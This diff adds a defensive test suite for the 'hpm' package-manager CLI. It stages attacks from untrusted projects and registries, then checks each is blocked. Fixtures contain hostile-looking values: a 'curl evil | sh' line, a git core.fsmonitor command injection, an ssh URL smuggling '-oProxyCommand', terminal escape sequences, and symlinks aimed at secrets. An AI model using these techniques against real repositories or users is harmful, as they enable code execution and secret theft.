@@ -1,0 +1,590 @@
+/**
+ * A project cloned from a stranger, and any remote registry, are untrusted
+ * (docs/security.md). Each test builds one attack of issue 7 for real (git
+ * repositories, symbolic links, loopback servers), runs the real CLI with a
+ * private HOME, and checks the attack is blocked: the exit code, nothing
+ * outside the project changed (a sentinel folder and HOME are snapshotted), no
+ * command ran (a marker file a command would create does not exist), no
+ * secret in the output, and the run ended in bounded time.
+ */
+
+import assert from "node:assert/strict";
+import { join } from "node:path";
+import { fileUrl, git, makeTempRoot, type RunResult, writeFile } from "./_fixtures.ts";
+import { hpm } from "./_project.ts";
+import { sealRecord } from "../lib/state.ts";
+
+const SECRET = "SECRET-TOKEN-8d1f2c";
+const REAL_HOME = Deno.env.get("HOME") ?? "/root";
+// The private HOME must not move Deno's and uv's caches into it.
+const DENO_DIR = Deno.env.get("DENO_DIR") ??
+  join(Deno.env.get("XDG_CACHE_HOME") ?? join(REAL_HOME, ".cache"), "deno");
+
+interface World {
+  root: string;
+  /** The project: hpm.yaml, pyproject.toml, a registry with `plug`. */
+  dir: string;
+  /** A private HOME holding a secret and a .bashrc. */
+  home: string;
+  /** Files outside the project that must never change. */
+  sentinel: string;
+  /** Where a command an attacker ran would leave its mark. */
+  marker: string;
+  env: Record<string, string>;
+}
+
+const PYPROJECT = '[project]\nname = "core"\nversion = "0.1.0"\nrequires-python = ">=3.9"\n';
+
+function entry(extra = "", dev = "{type: local, path: ./packages/plug}"): string {
+  return `name: plug\n${extra}sources:\n  dev: ${dev}\n  prod: {type: pypi, version: 1.0.0}\n`;
+}
+
+async function world(registry = "./hpm-registry"): Promise<World> {
+  const root = await makeTempRoot();
+  const dir = join(root, "core");
+  const home = join(root, "home");
+  const sentinel = join(root, "sentinel");
+  await writeFile(join(home, "secret.txt"), `${SECRET}\n`);
+  await writeFile(join(home, ".bashrc"), "# my shell\n");
+  await writeFile(join(sentinel, "keep.txt"), "keep me\n");
+  await writeFile(join(dir, "pyproject.toml"), PYPROJECT);
+  await writeFile(
+    join(dir, "hpm.yaml"),
+    `registry: ${JSON.stringify(registry)}\ngroups:\n  plugins:\n    options: [plug]\n`,
+  );
+  await writeFile(join(dir, "hpm-registry", "packages", "plug.yaml"), entry());
+  await writeFile(
+    join(dir, "packages", "plug", "pyproject.toml"),
+    '[project]\nname = "plug"\nversion = "1.0.0"\n',
+  );
+  return {
+    root,
+    dir,
+    home,
+    sentinel,
+    marker: join(root, "MARKER"),
+    env: {
+      HOME: home,
+      HPM_STATE_DIR: join(root, "state"),
+      HPM_CACHE_DIR: join(root, "cache"),
+      UV_CACHE_DIR: Deno.env.get("UV_CACHE_DIR") ?? join(REAL_HOME, ".cache", "uv"),
+      DENO_DIR,
+    },
+  };
+}
+
+// Every file and link under `dir`, with its content or target.
+async function tree(dir: string): Promise<Record<string, string>> {
+  const out: Record<string, string> = {};
+  const walk = async (d: string, rel: string) => {
+    for await (const e of Deno.readDir(d)) {
+      const path = join(d, e.name);
+      const key = rel ? `${rel}/${e.name}` : e.name;
+      if (e.isSymlink) out[key] = `-> ${await Deno.readLink(path)}`;
+      else if (e.isDirectory) {
+        out[key] = "<dir>";
+        await walk(path, key);
+      } else out[key] = await Deno.readTextFile(path);
+    }
+  };
+  await walk(dir, "");
+  return out;
+}
+
+async function outside(w: World): Promise<Record<string, Record<string, string>>> {
+  return { home: await tree(w.home), sentinel: await tree(w.sentinel) };
+}
+
+async function exists(path: string): Promise<boolean> {
+  return await Deno.lstat(path).then(() => true, () => false);
+}
+
+// Runs hpm and checks what every attack must leave true: it ended, nothing
+// outside the project changed, nothing ran, no secret was shown.
+async function attacked(w: World, args: string[], env: Record<string, string> = {}) {
+  const before = await outside(w);
+  const started = Date.now();
+  const r = await hpm(args, w.dir, { ...w.env, ...env });
+  const seconds = (Date.now() - started) / 1000;
+  assert.deepEqual(await outside(w), before, "nothing outside the project changed");
+  assert.equal(await exists(w.marker), false, "no command of the attacker's ran");
+  assert.ok(!(r.stdout + r.stderr).includes(SECRET), "no secret in the output");
+  assert.ok(!/internal error/.test(r.stderr), `no internal error:\n${r.stderr}`);
+  return { ...r, seconds };
+}
+
+function expectCode(r: RunResult, code: number) {
+  assert.equal(r.code, code, `exit ${r.code}\n${r.stderr}\n${r.stdout}`);
+}
+
+async function cleanup(w: World) {
+  await Deno.remove(w.root, { recursive: true });
+}
+
+Deno.test("1: a committed journal naming files outside the project is never acted on", async () => {
+  const w = await world();
+  try {
+    await writeFile(join(w.root, "outside.txt"), "outside\n");
+    await Deno.symlink(w.home, join(w.dir, "evil"));
+    const journal = join(w.dir, ".hpm", "journal");
+    await writeFile(
+      join(journal, "journal.json"),
+      JSON.stringify({
+        pid: 4194305,
+        state: "applying",
+        files: [
+          { name: "evil/.bashrc", existed: true },
+          { name: "../outside.txt", existed: false },
+          { name: "pyproject.toml", existed: true },
+        ],
+      }),
+    );
+    await writeFile(join(journal, "evil", ".bashrc.before"), "curl evil | sh\n");
+    await writeFile(join(journal, "pyproject.toml.before"), "[project]\nname = 'pwned'\n");
+    const r = await attacked(w, ["diff"]);
+    expectCode(r, 0);
+    assert.match(r.stderr, /ignored .*journal\.json: it was not written by hpm/);
+    assert.equal(await Deno.readTextFile(join(w.root, "outside.txt")), "outside\n");
+    assert.equal(await Deno.readTextFile(join(w.dir, "pyproject.toml")), PYPROJECT);
+    assert.equal(await Deno.readTextFile(join(w.home, ".bashrc")), "# my shell\n");
+
+    // Committed to git, the same .hpm/ is refused outright.
+    await git(["init", "-q", "-b", "main"], { cwd: w.dir });
+    await git(["add", "-A"], { cwd: w.dir });
+    await git(["commit", "-qm", "evil"], { cwd: w.dir });
+    const tracked = await attacked(w, ["status"]);
+    expectCode(tracked, 2);
+    assert.match(tracked.stderr, /\.hpm\/ is tracked by git/);
+    assert.match(tracked.stderr, /git rm -r --cached \.hpm/);
+  } finally {
+    await cleanup(w);
+  }
+});
+
+Deno.test("2: a .hpm or .hpm/journal that is a link to another folder is refused, nothing deleted or created there", async () => {
+  for (const linked of [".hpm", ".hpm/journal"]) {
+    const w = await world();
+    try {
+      if (linked === ".hpm/journal") await Deno.mkdir(join(w.dir, ".hpm"));
+      await Deno.symlink(w.sentinel, join(w.dir, linked));
+      const r = await attacked(w, ["status"]);
+      expectCode(r, 2);
+      assert.match(r.stderr, /is a symbolic link/);
+      assert.deepEqual(await tree(w.sentinel), { "keep.txt": "keep me\n" });
+    } finally {
+      await cleanup(w);
+    }
+  }
+});
+
+Deno.test("3: a dev path laid out as a git repository with core.fsmonitor never runs its command", async () => {
+  const w = await world();
+  try {
+    const evil = join(w.dir, "packages", "plug");
+    await git(["init", "-q", "--bare", evil], { cwd: w.dir });
+    const config = join(evil, "config");
+    await Deno.writeTextFile(
+      config,
+      (await Deno.readTextFile(config)).replace("bare = true", "bare = false") +
+        `\tworktree = .\n\tfsmonitor = "touch ${w.marker}; false"\n`,
+    );
+    // Reproduce: plain git run in that folder does run the command.
+    await new Deno.Command("git", { args: ["status"], cwd: evil, stdout: "null", stderr: "null" })
+      .output();
+    assert.ok(await exists(w.marker), "the attack works against git without hardening");
+    await Deno.remove(w.marker);
+
+    const r = await attacked(w, ["status"]);
+    expectCode(r, 0);
+    const json = await attacked(w, ["status", "--json"]);
+    const report = JSON.parse(json.stdout);
+    assert.equal(report.packages[0].clone.git, false, "git was not run there");
+  } finally {
+    await cleanup(w);
+  }
+});
+
+Deno.test("3: a registry's cached checkout can never be a dev path", async () => {
+  const w = await world();
+  try {
+    const cached = join(w.env.HPM_CACHE_DIR, "registries", "0123456789abcdef", "plug");
+    await writeFile(join(cached, "pyproject.toml"), '[project]\nname = "plug"\nversion = "1"\n');
+    await writeFile(
+      join(w.dir, "hpm-registry", "packages", "plug.yaml"),
+      entry("", `{type: local, path: "${cached}"}`),
+    );
+    for (const args of [["status"], ["sync", "--no-install"], ["clone"]]) {
+      const r = await attacked(w, args);
+      expectCode(r, 2);
+      assert.match(r.stderr, /inside HPM's registry cache/);
+    }
+    assert.equal(await Deno.readTextFile(join(w.dir, "pyproject.toml")), PYPROJECT);
+  } finally {
+    await cleanup(w);
+  }
+});
+
+Deno.test("4: hpm clone does not write outside the project unless the user says yes", async () => {
+  const w = await world();
+  try {
+    const source = join(w.root, "src-repo");
+    await writeFile(join(source, "pyproject.toml"), '[project]\nname = "plug"\nversion = "1"\n');
+    await git(["init", "-q", "-b", "main"], { cwd: source });
+    await git(["add", "-A"], { cwd: source });
+    await git(["commit", "-qm", "init"], { cwd: source });
+    await Deno.remove(join(w.dir, "packages"), { recursive: true });
+    for (const path of ["~/.config/autostart/plug", "../../somewhere/plug"]) {
+      await writeFile(
+        join(w.dir, "hpm-registry", "packages", "plug.yaml"),
+        `name: plug\nsources:\n  dev: {type: local, path: "${path}"}\n` +
+          `  prod: {type: git, url: "${fileUrl(source)}", ref: main}\n`,
+      );
+      const r = await attacked(w, ["clone"]);
+      expectCode(r, 2);
+      assert.match(r.stderr, /refusing to clone outside the project/);
+      assert.match(r.stderr, /--yes/);
+    }
+    assert.equal(await exists(join(w.root, "..", "somewhere")), false);
+    // A remote registry may not even name such a path.
+    const remote = await world();
+    try {
+      const reg = join(remote.root, "reg");
+      await writeFile(
+        join(reg, "packages", "plug.yaml"),
+        entry("", "{type: local, path: ../../x}"),
+      );
+      await git(["init", "-q", "-b", "main"], { cwd: reg });
+      await git(["add", "-A"], { cwd: reg });
+      await git(["commit", "-qm", "reg"], { cwd: reg });
+      await writeFile(
+        join(remote.dir, "hpm.yaml"),
+        `registry: "${fileUrl(reg)}/.git"\ngroups:\n  plugins:\n    options: [plug]\n`,
+      );
+      const r = await attacked(remote, ["clone"]);
+      expectCode(r, 2);
+      assert.match(r.stderr, /comes from the remote registry .* leads outside the project/);
+    } finally {
+      await cleanup(remote);
+    }
+  } finally {
+    await cleanup(w);
+  }
+});
+
+Deno.test("5: a pyproject.toml or registry folder linked outside is neither printed nor copied", async () => {
+  const w = await world();
+  try {
+    await Deno.remove(join(w.dir, "pyproject.toml"));
+    await Deno.symlink(join(w.home, "secret.txt"), join(w.dir, "pyproject.toml"));
+    for (const args of [["diff"], ["status"], ["sync", "--no-install"]]) {
+      const r = await attacked(w, args);
+      expectCode(r, 2);
+      assert.match(r.stderr, /pyproject\.toml is a link to .*outside/);
+    }
+    assert.ok(
+      (await Deno.lstat(join(w.dir, "pyproject.toml"))).isSymlink,
+      "the link is still a link",
+    );
+  } finally {
+    await cleanup(w);
+  }
+  // A git registry whose packages/ is a link to a folder outside its checkout.
+  const r2 = await world();
+  try {
+    const secrets = join(r2.root, "secrets");
+    await writeFile(join(secrets, "plug.yaml"), `name: plug\n${SECRET}: [\n`);
+    const reg = join(r2.root, "reg");
+    await Deno.mkdir(reg, { recursive: true });
+    await Deno.symlink(secrets, join(reg, "packages"));
+    await git(["init", "-q", "-b", "main"], { cwd: reg });
+    await git(["add", "-A"], { cwd: reg });
+    await git(["commit", "-qm", "reg"], { cwd: reg });
+    await writeFile(
+      join(r2.dir, "hpm.yaml"),
+      `registry: "${fileUrl(reg)}/.git"\ngroups:\n  plugins:\n    options: [plug]\n`,
+    );
+    for (const args of [["registry", "list"], ["registry", "show", "plug"], ["diff"]]) {
+      const r = await attacked(r2, args);
+      expectCode(r, 2);
+      assert.match(r.stderr, /outside/);
+    }
+  } finally {
+    await cleanup(r2);
+  }
+});
+
+/** Serves `handler` on 127.0.0.1 until the test ends; counts requests. */
+function serve(handler: (req: Request) => Response | Promise<Response>) {
+  const seen: string[] = [];
+  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (req) => {
+    seen.push(new URL(req.url).pathname);
+    return handler(req);
+  });
+  return { url: `http://127.0.0.1:${server.addr.port}`, seen, close: () => server.shutdown() };
+}
+
+Deno.test("6: an https registry's redirect to another origin is not followed", async () => {
+  const internal = serve(() => Response.json([SECRET.toLowerCase()]));
+  const registry = serve(() => Response.redirect(`${internal.url}/index.json`, 302));
+  const w = await world(registry.url);
+  try {
+    const r = await attacked(w, ["registry", "list"]);
+    expectCode(r, 2);
+    assert.match(r.stderr, /redirects to http:\/\/127\.0\.0\.1:\d+\/index\.json, outside/);
+    assert.deepEqual(internal.seen, [], "the other origin was never asked");
+    assert.ok(!(r.stdout + r.stderr).toLowerCase().includes(SECRET.toLowerCase()));
+  } finally {
+    await cleanup(w);
+    await internal.close();
+    await registry.close();
+  }
+});
+
+Deno.test("7: state and project files linked to /dev/zero are refused without reading them", async () => {
+  for (
+    const file of [
+      "hpm.yaml",
+      "hpm.local.yaml",
+      "pyproject.toml",
+      ".hpm/lock",
+      ".hpm/journal/journal.json",
+    ]
+  ) {
+    const w = await world();
+    try {
+      const path = join(w.dir, file);
+      await Deno.mkdir(join(path, ".."), { recursive: true });
+      await Deno.remove(path).catch(() => {});
+      await Deno.symlink("/dev/zero", path);
+      const r = await attacked(w, ["status"]);
+      assert.ok(r.seconds < 30, `${file}: bounded time (${r.seconds} s)`);
+      if (file.startsWith(".hpm/journal")) {
+        expectCode(r, 0);
+        assert.match(r.stderr, /ignored .*journal\.json/);
+      } else if (file === ".hpm/lock") {
+        expectCode(r, 0);
+        assert.match(r.stderr, /hpm did not write it/);
+      } else {
+        expectCode(r, 2);
+        assert.match(r.stderr, /outside|symbolic link|not a regular file/, file);
+      }
+    } finally {
+      await cleanup(w);
+    }
+  }
+});
+
+Deno.test("8: a registry that trickles its answer, or a git server that never answers, is cut off at the deadline", async () => {
+  const trickle = serve(() =>
+    new Response(
+      new ReadableStream({
+        async pull(controller) {
+          await new Promise((r) => setTimeout(r, 500));
+          controller.enqueue(new TextEncoder().encode(" "));
+        },
+      }),
+    )
+  );
+  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  const held: Deno.Conn[] = [];
+  (async () => {
+    for await (const conn of listener) held.push(conn);
+  })().catch(() => {});
+  try {
+    for (const registry of [trickle.url, `git://127.0.0.1:${listener.addr.port}/reg.git`]) {
+      const w = await world(registry);
+      try {
+        const r = await attacked(w, ["registry", "list"], { HPM_REGISTRY_TIMEOUT: "2" });
+        expectCode(r, 1);
+        assert.match(r.stderr, /cannot fetch registry/);
+        assert.ok(r.seconds < 20, `${registry}: stopped near the deadline (${r.seconds} s)`);
+      } finally {
+        await cleanup(w);
+      }
+    }
+  } finally {
+    await trickle.close();
+    listener.close();
+    for (const c of held) c.close();
+  }
+});
+
+Deno.test("9: a journal never gets an unrelated process killed", async () => {
+  const w = await world();
+  const sleeper = new Deno.Command("sleep", { args: ["30"] }).spawn();
+  try {
+    const start = (await Deno.readTextFile(`/proc/${sleeper.pid}/stat`))
+      .split(") ")[1].split(" ")[19];
+    const journal = join(w.dir, ".hpm", "journal");
+    const record = {
+      pid: 4194305,
+      child: sleeper.pid,
+      childStart: start,
+      childProgram: "uv",
+      state: "applying",
+      files: [{ name: "uv.lock", existed: false }],
+    };
+    // Unsealed (as a stranger would commit it): ignored.
+    await writeFile(join(journal, "journal.json"), JSON.stringify(record));
+    const r = await attacked(w, ["diff"]);
+    expectCode(r, 0);
+    assert.match(r.stderr, /ignored/);
+    // Sealed by this user's hpm, but the pid now belongs to `sleep`: the
+    // files are restored, the process is left alone.
+    await writeFile(
+      join(journal, "journal.json"),
+      await sealRecord(w.dir, record, w.env),
+    );
+    const genuine = await attacked(w, ["diff"]);
+    expectCode(genuine, 0);
+    assert.match(genuine.stderr, /rolled back/);
+    const alive = await Deno.lstat(`/proc/${sleeper.pid}`).then(() => true, () => false);
+    assert.ok(alive, "sleep is still running");
+  } finally {
+    sleeper.kill("SIGKILL");
+    await sleeper.status;
+    await cleanup(w);
+  }
+});
+
+Deno.test("10: terminal escapes in registry fields are shown escaped", async () => {
+  const w = await world();
+  try {
+    await writeFile(
+      join(w.dir, "hpm-registry", "packages", "plug.yaml"),
+      entry('description: "\\e]0;pwned\\a\\e[2J\\e[31mred"\n'),
+    );
+    for (const args of [["registry", "list"], ["registry", "show", "plug"]]) {
+      const r = await attacked(w, args);
+      expectCode(r, 0);
+      const raw = [...r.stdout + r.stderr].filter((c) => c === "\x1b" || c === "\x07");
+      assert.deepEqual(raw, [], `${args}: no raw control characters`);
+      assert.match(r.stdout, /\\u001b\]0;pwned/);
+    }
+  } finally {
+    await cleanup(w);
+  }
+});
+
+Deno.test("11: a planted lock does not block, a malformed journal gives no stack trace", async () => {
+  const w = await world();
+  try {
+    await writeFile(join(w.dir, ".hpm", "lock"), JSON.stringify({ pid: 1 }));
+    const r = await attacked(w, ["status"]);
+    expectCode(r, 0);
+    assert.ok(r.seconds < 20, `not blocked (${r.seconds} s)`);
+    assert.match(r.stderr, /hpm did not write it/);
+    await writeFile(join(w.dir, ".hpm", "journal", "journal.json"), '{"pid": 12, "files": [');
+    for (let i = 0; i < 2; i++) {
+      const again = await attacked(w, ["status"]);
+      expectCode(again, 0);
+      assert.match(again.stderr, /ignored .*journal\.json/);
+    }
+  } finally {
+    await cleanup(w);
+  }
+});
+
+/** A git registry repository with `plug`. */
+async function gitRegistry(w: World, description: string): Promise<string> {
+  const reg = join(w.root, "reg");
+  await writeFile(join(reg, "packages", "plug.yaml"), entry(`description: ${description}\n`));
+  await git(["init", "-q", "-b", "main"], { cwd: reg });
+  await git(["add", "-A"], { cwd: reg });
+  await git(["commit", "-qm", description], { cwd: reg });
+  return reg;
+}
+
+Deno.test("12: the shared cache: a linked stamp is not written through, a future stamp does not freeze it, parallel runs all succeed", async () => {
+  const w = await world();
+  try {
+    const reg = await gitRegistry(w, "first");
+    await writeFile(
+      join(w.dir, "hpm.yaml"),
+      `registry: "${fileUrl(reg)}/.git"\ngroups:\n  plugins:\n    options: [plug]\n`,
+    );
+    const runs = await Promise.all(
+      Array.from({ length: 6 }, () => hpm(["registry", "list"], w.dir, w.env)),
+    );
+    for (const r of runs) expectCode(r, 0);
+    const registries = join(w.env.HPM_CACHE_DIR, "registries");
+    const stamp = [...Deno.readDirSync(registries)].find((e) => e.name.endsWith(".fetched"))!;
+    const stampPath = join(registries, stamp.name);
+    // A stamp that is a link: never written through, and not trusted.
+    await Deno.remove(stampPath);
+    await Deno.symlink(join(w.sentinel, "keep.txt"), stampPath);
+    await writeFile(join(reg, "packages", "plug.yaml"), entry("description: second\n"));
+    await git(["commit", "-qam", "second"], { cwd: reg });
+    const relinked = await attacked(w, ["registry", "list"]);
+    expectCode(relinked, 0);
+    assert.match(relinked.stdout, /second/, "a linked stamp counts as never fetched");
+    assert.equal((await Deno.lstat(stampPath)).isSymlink, false, "the link was replaced");
+    // A stamp dated in the future does not keep a planted copy fresh forever.
+    const future = new Date(Date.now() + 365 * 24 * 3600 * 1000);
+    await Deno.utime(stampPath, future, future);
+    await writeFile(join(reg, "packages", "plug.yaml"), entry("description: third\n"));
+    await git(["commit", "-qam", "third"], { cwd: reg });
+    const refreshed = await attacked(w, ["registry", "list"]);
+    expectCode(refreshed, 0);
+    assert.match(refreshed.stdout, /third/);
+  } finally {
+    await cleanup(w);
+  }
+});
+
+Deno.test("13: an ssh URL whose user part is an option is refused before git runs", async () => {
+  const w = await world(`ssh://-oProxyCommand=touch%20MARKER@127.0.0.1/x.git`);
+  try {
+    const r = await attacked(w, ["registry", "list"]);
+    expectCode(r, 2);
+    assert.match(r.stderr, /git URLs must use/);
+    await writeFile(
+      join(w.dir, "hpm.yaml"),
+      "registry: ./hpm-registry\ngroups:\n  plugins:\n    options: [plug]\n",
+    );
+    await writeFile(
+      join(w.dir, "hpm-registry", "packages", "plug.yaml"),
+      'name: plug\nsources:\n  prod: {type: git, url: "ssh://-oProxyCommand=x@host/x.git", ref: v1}\n',
+    );
+    const entryRun = await attacked(w, ["diff", "--mode", "prod"]);
+    expectCode(entryRun, 2);
+  } finally {
+    await cleanup(w);
+  }
+});
+
+Deno.test("14: an oversized index.json is reported as too large", async () => {
+  const big = serve(() => new Response("[" + '"a",'.repeat(600_000) + '"a"]'));
+  const w = await world(big.url);
+  try {
+    const r = await attacked(w, ["registry", "list"]);
+    expectCode(r, 2);
+    assert.match(r.stderr, /is larger than \d+ bytes/);
+    assert.ok(!/not valid JSON/.test(r.stderr));
+  } finally {
+    await cleanup(w);
+    await big.close();
+  }
+});
+
+Deno.test("15: HPM_GIT and HPM_UV must be absolute paths or command names", async () => {
+  const w = await world();
+  try {
+    await writeFile(join(w.dir, "packages", "plug", "git"), `#!/bin/sh\ntouch ${w.marker}\n`);
+    await Deno.chmod(join(w.dir, "packages", "plug", "git"), 0o755);
+    await Deno.mkdir(join(w.dir, "packages", "plug", ".git"));
+    const r = await attacked(w, ["status"], { HPM_GIT: "./git" });
+    expectCode(r, 2);
+    assert.match(r.stderr, /HPM_GIT=\.\/git is a relative path/);
+    const uv = await attacked(w, ["sync"], { HPM_UV: "bin/uv" });
+    expectCode(uv, 2);
+    assert.match(uv.stderr, /HPM_UV=bin\/uv is a relative path/);
+    assert.equal(
+      await Deno.readTextFile(join(w.dir, "pyproject.toml")),
+      PYPROJECT,
+      "nothing written",
+    );
+  } finally {
+    await cleanup(w);
+  }
+});
